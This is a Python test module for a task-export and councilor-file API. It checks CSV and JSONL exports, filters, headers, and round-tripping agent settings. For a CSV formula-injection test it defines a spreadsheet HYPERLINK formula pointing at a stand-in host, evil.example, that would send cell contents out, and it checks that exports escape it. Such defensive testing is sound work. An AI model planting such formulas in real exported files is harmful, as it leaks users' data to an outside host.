"""Executions and councilors as files, over HTTP."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import socket
from collections.abc import Iterator
from contextlib import ExitStack
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from conselho.models.ids import AgentId
from conselho.models.task import SkipReason, Status
from conselho.models.verdict import Severity
from conselho.store import Held, Loss
from conselho.stores.sql import open_sql_store
from tests.support.clock import NOON
from tests.support.factories import (
    LEASE,
    WORKER,
    failed,
    make_lost,
    make_outcome,
    make_snapshot,
    make_task,
    make_verdict,
    no_events,
)
from tests.support.server import Json, Server, running

MINUTE = timedelta(minutes=1)
RUNS = 1_203  # more than one portion
ANA, BIA = AgentId("ana"), AgentId("bia")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
LONG = "A line of the result, with 'quotes', \"quotes\", commas,\r\nand ends of lines.\n" * 20


async def fill(database: Path) -> None:
    """RUNS executions of Ana, one each minute; two of Bia, of which one failed; a lost slot."""
    store = await open_sql_store(f"sqlite:///{database}")
    tasks = [
        make_task(
            ANA,
            due_at=None,
            created_at=NOON + n * MINUTE,
            active_key=f"run-{n}",
            task_id=f"{n:024x}",
        )
        for n in range(RUNS)
    ]
    evil = make_snapshot(display_name="@Bia", title=FORMULA, prompt="-- secret prompt")
    tasks += [
        make_task(BIA, due_at=None, created_at=NOON - MINUTE, active_key=f"bia-{n}", snapshot=evil)
        for n in range(2)
    ]
    await store.submit(tasks, announce=no_events)
    now = NOON + RUNS * MINUTE
    claimed = await store.claim(WORKER, now=now, limit=RUNS + 2, lease=LEASE, announce=no_events)
    bias = 0
    for task in claimed:
        held = Held(task_id=task.task_id, fence=task.fence)
        outcome = make_outcome(Severity.SUCCESS, result="Well.", usage={"cost_usd": 0.5})
        if task.agent_id == BIA:
            bias += 1
            verdict = make_verdict(Severity.WARNING, summary="+1 finding\tmore")
            outcome = make_outcome(Severity.WARNING, verdict=verdict, result=LONG)
            if bias == 2:
                outcome = failed(error="-1, it said", exit_code=-9)
        await store.finish(held, outcome, now=now, announce=no_events)
    row = make_lost(ANA, status=Status.MISSED, reason=SkipReason.LATE, at=now)
    await store.record_lost([Loss(row=row, slots=[now])], now=now, announce=no_events)
    await store.close()


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("export")
    (folder / "data").mkdir(mode=0o700)
    asyncio.run(fill(folder / "data" / "conselho.db"))
    with running(folder) as server:
        yield server


def exported(server: Server, **query: Any) -> httpx.Response:
    response = server.api.get("/api/export/tasks", params=query)
    assert response.status_code == 200, response.text
    return response


def table(server: Server, **query: Any) -> list[dict[str, str]]:
    text = exported(server, format="csv", **query).content.decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def lines(server: Server, **query: Any) -> list[Json]:
    text = exported(server, format="jsonl", **query).text
    assert text.endswith("\n")
    return [json.loads(line) for line in text.split("\n")[:-1]]


# -- executions ------------------------------------------------------------------------------------


def test_a_table_holds_every_row_once_newest_first(server: Server) -> None:
    rows = table(server)
    assert len(rows) == len({row["task_id"] for row in rows}) == RUNS + 3
    times = [datetime.fromisoformat(row["created_at"]) for row in rows]
    assert times == sorted(times, reverse=True)
    assert rows[0]["status"] == "missed"
    assert (rows[0]["skip_reason"], rows[0]["slot_count"]) == ("late", "1")
    assert (rows[1]["agent_id"], rows[1]["severity"], rows[1]["cost_usd"]) == (
        "ana", "success", "0.5",
    )  # fmt: skip


def test_lines_are_the_rows_of_the_api_less_the_long_texts(server: Server) -> None:
    rows = lines(server)
    assert len(rows) == RUNS + 3
    shown = server.get(f"/api/tasks/{rows[1]['task_id']}")
    # What became of earlier attempts is told of one run alone, as the long texts are.
    for name in ("result", "prompt", "instructions", "sent_prompt", "attempts"):
        del shown[name]
    assert rows[1] == shown


def test_long_texts_come_when_they_are_asked_for(server: Server) -> None:
    [warned] = lines(server, agent_id="bia", severity="warning", include="result, prompt")
    assert warned["result"] == LONG
    assert warned["prompt"] == "-- secret prompt"
    shown = server.get(f"/api/tasks/{warned['task_id']}")
    del shown["attempts"]
    assert warned == shown
    [row] = table(server, agent_id="bia", severity="warning", include="result")
    assert row["result"] == LONG
    assert "prompt" not in row


def test_with_long_texts_every_row_comes_once_too(server: Server) -> None:
    rows = lines(server, include="result")
    assert len({row["task_id"] for row in rows}) == len(rows) == RUNS + 3


def test_no_cell_is_a_formula(server: Server) -> None:
    for row in table(server, agent_id="bia", include="result,prompt"):
        assert row["title"] == f"'{FORMULA}"
        assert row["display_name"] == "'@Bia"
        assert row["prompt"] == "'-- secret prompt"
        if row["status"] == "completed":
            assert row["summary"] == "'+1 finding\tmore"
        else:
            assert (row["error"], row["exit_code"]) == ("'-1, it said", "-9")


def test_filters_are_those_of_the_list(server: Server) -> None:
    assert len(table(server, agent_id="bia")) == 2
    assert len(table(server, status=["error", "missed"])) == 2
    assert len(table(server, trigger="schedule")) == 1
    since, until = NOON + 10 * MINUTE, NOON + 20 * MINUTE
    span = {"since": since.isoformat(), "until": until.isoformat()}
    assert len(lines(server, **span)) == 10
    nothing = exported(server, format="csv", agent_id="nobody").text
    assert nothing.startswith("task_id,agent_id,")
    assert nothing.count("\r\n") == 1
    assert exported(server, format="jsonl", agent_id="nobody").text == ""


def test_it_is_offered_as_a_file_with_a_plain_name(server: Server) -> None:
    response = exported(server)
    assert response.headers["content-disposition"] == 'attachment; filename="tasks.csv"'
    assert response.headers["content-type"].startswith("text/csv")
    response = exported(server, format="jsonl")
    assert response.headers["content-disposition"] == 'attachment; filename="tasks.jsonl"'
    assert response.headers["content-type"] == "application/x-ndjson"


def test_what_is_not_known_is_refused_in_a_sentence(server: Server) -> None:
    for query, said in (
        ({"format": "xlsx"}, "format"),
        ({"include": "everything"}, "known: result, prompt"),
        ({"since": "yesterday"}, "since"),
    ):
        response = server.api.get("/api/export/tasks", params=query)
        assert response.status_code == 422
        assert said in response.json()["detail"]


def test_readers_that_stop_hold_no_connection_to_the_store(server: Server) -> None:
    """More of them than the store has readers; the others are served all the same."""
    address = urlsplit(server.url)
    request = f"GET /api/export/tasks?format=jsonl HTTP/1.1\r\nHost: {address.netloc}\r\n\r\n"
    with ExitStack() as open_ones:
        for _ in range(8):
            reader = open_ones.enter_context(socket.socket())
            reader.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2_048)
            reader.settimeout(30)
            reader.connect((address.hostname, address.port))
            reader.sendall(request.encode())
            assert reader.recv(16).startswith(b"HTTP/1.1 200")
        for _ in range(4):
            assert server.get("/api/tasks", limit=1)["total"] == RUNS + 3
        assert len(lines(server, agent_id="bia")) == 2


# -- councilors ------------------------------------------------------------------------------------


def test_a_councilor_as_a_file_makes_the_same_one_again(server: Server) -> None:
    """Exported, deleted, applied: all that a person ever set is as it was."""
    server.promote("cora", tags=["code"], cwd=str(server.folder))
    settings = {
        "schedule": "0 9 * * 1",
        "policies": {"max_attempts": 3},
        "customization": {"color": "#123456"},
    }
    server.patch("/api/councilors/cora/councilor-config", settings)
    before = server.get("/api/agents/cora")
    response = server.api.get("/api/councilors/cora/council-file")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/markdown; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="cora.md"'
    assert server.api.get("/api/agents/cora/council-file").text == response.text

    server.delete("/api/agents/cora")
    files = [{"name": "cora.md", "text": response.text}]
    server.post("/api/council", {"files": files, "base": str(server.folder)})

    after = server.get("/api/agents/cora")
    for name in ("name", "emoji", "command", "cwd", "tags", "councilor_config", "customization"):
        assert after[name] == before[name], name
    assert server.api.get("/api/councilors/cora/council-file").text == response.text
    server.delete("/api/agents/cora")


def test_what_is_no_councilor_has_no_file(server: Server) -> None:
    assert server.api.get("/api/councilors/nobody/council-file").status_code == 404
    server.create("plain", command=["true"])
    assert server.api.get("/api/councilors/plain/council-file").status_code == 404
    server.delete("/api/agents/plain")
